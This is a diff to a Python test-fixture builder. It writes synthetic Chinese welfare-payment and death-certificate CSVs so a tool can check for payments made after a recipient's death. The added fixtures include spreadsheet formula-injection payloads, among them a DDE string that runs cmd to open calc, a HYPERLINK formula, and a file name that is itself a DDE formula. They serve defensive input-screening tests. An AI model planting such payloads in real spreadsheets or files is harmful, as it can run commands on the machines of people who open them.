@@ -11,10 +11,12 @@ tests/test_hostile.py runs `qingfeng run` and `qingfeng screen` over it.
 
 from __future__ import annotations
 
+import csv
 import os
 import sys
 import zipfile
 from dataclasses import dataclass
+from decimal import Decimal
 from pathlib import Path
 
 # a payee of the sample register is not needed: these lists only have to be recognised as payment lists
@@ -112,6 +114,61 @@ def sheet_rows(rows: list[list], first_row: int = 1, quote: str = '"', eq: str =
 
 
 XHEADER = HEADER.split(",")
+
+
+# ---- formulas and control characters that become cases (R01: paid after death), and amount forms ----------
+
+HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'
+DDE = "=cmd|' /C calc'!A0"
+HOSTILE = [HYPERLINK, DDE, "+1+1", "@SUM(1)", "-2+3", "\t制表", "张\x00三", "李\x1b四", "王\x1f五", "赵\x01六"]
+LONG_TOWNSHIP = "长" * 117 + "街道办事处"[:4]           # 121 characters, 363 bytes in UTF-8: no file system takes it
+assert len(LONG_TOWNSHIP) == 121
+HOSTILE_FILE = "=cmd|' C calc'!A0 低保\x01补充.csv"    # a file name that is a formula, with a control character
+AMOUNTS_READ = {"1,234.00": Decimal("1234.00"), "1234元": Decimal("1234.00"), "¥1,234": Decimal("1234.00"),
+                "1234.5": Decimal("1234.50"), "￥1,200.5": Decimal("1200.50"), "-245": Decimal("-245.00")}
+AMOUNTS_REFUSED = ["1_000", "2 70", "270.004"]
+
+
+def with_check(body17: str) -> str:
+    w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
+    return body17 + "10X98765432"[sum(int(c) * x for c, x in zip(body17, w)) % 11]
+
+
+HOSTILE_IDS = [with_check(f"33082219500101{i:03d}") for i in range(len(HOSTILE))]
+AMOUNT_IDS = {a: with_check(f"33082219600201{i:03d}") for i, a in enumerate([*AMOUNTS_READ, *AMOUNTS_REFUSED])}
+PAY_HEADER = ["行政区划", "乡镇", "村", "低保类型", "户主姓名", "户主身份证号", "保障人数", "所属年月", "低保金", "银行账号", "备注"]
+
+
+def write_csv(path: Path, header: list[str], rows: list[list]) -> None:
+    with open(path, "w", encoding="utf-8", newline="") as f:
+        w = csv.writer(f)
+        w.writerow(header)
+        w.writerows(rows)
+
+
+def formula_inbox(inbox: Path) -> None:
+    """低保 payments of ten people whose names, villages and remarks are formulas or hold control characters,
+    paid for four months after their deaths (R01 lists each with name, village and the files it cites); one
+    of them in a township of 121 characters; one payment per amount form; a second payments file whose name
+    is a formula with a control character; their death certificates."""
+    inbox.mkdir(parents=True)
+    rows = []
+    for i, (name, idn) in enumerate(zip(HOSTILE, HOSTILE_IDS)):
+        village, remark = HOSTILE[(i + 3) % len(HOSTILE)], HOSTILE[(i + 5) % len(HOSTILE)]
+        for month in ("202001", "202002", "202003", "202004"):
+            rows.append(["常山县", LONG_TOWNSHIP if i == 0 else "天马街道", village, "城市低保", name, idn, "1", month,
+                         "750元", "6217" + idn[6:17], remark])
+    for amount, idn in AMOUNT_IDS.items():
+        rows.append(["常山县", "天马街道", "和平社区", "城市低保", "钱七", idn, "1", "202005", amount, "6217" + idn[6:17], ""])
+    write_csv(inbox / "民政_最低生活保障_2020年.csv", PAY_HEADER, rows)
+    write_csv(inbox / HOSTILE_FILE, PAY_HEADER,
+              [["常山县", "天马街道", HYPERLINK, "城市低保", DDE, HOSTILE_IDS[1], "1", "202006", "750元", "", "@补发"],
+               ["常山县", "天马街道", "和平社区", "城市低保", "孙八", HOSTILE_IDS[2], "1", "202006", "7 50", "", ""],
+               ["常山县", "天马街道", "和平社区", "城市低保", "周九", HOSTILE_IDS[3], "1", "-300.00", "750", "", ""],
+               ["常山县", "天马街道", "和平社区", "城市低保", "吴十", HOSTILE_IDS[4], "1", "202006", "-2+3", "", ""]])
+    write_csv(inbox / "卫健_死亡医学证明_2020.csv", ["姓名", "身份证号", "死亡日期", "死亡地点", "根本死亡原因", "签发机构", "签发日期"],
+              [[name, idn, "20200115", DDE, "疾病", "@SUM(1)", "20200116"] for name, idn in zip(HOSTILE, HOSTILE_IDS)])
+
 
 
 def build(inbox: Path) -> list[Entry]:
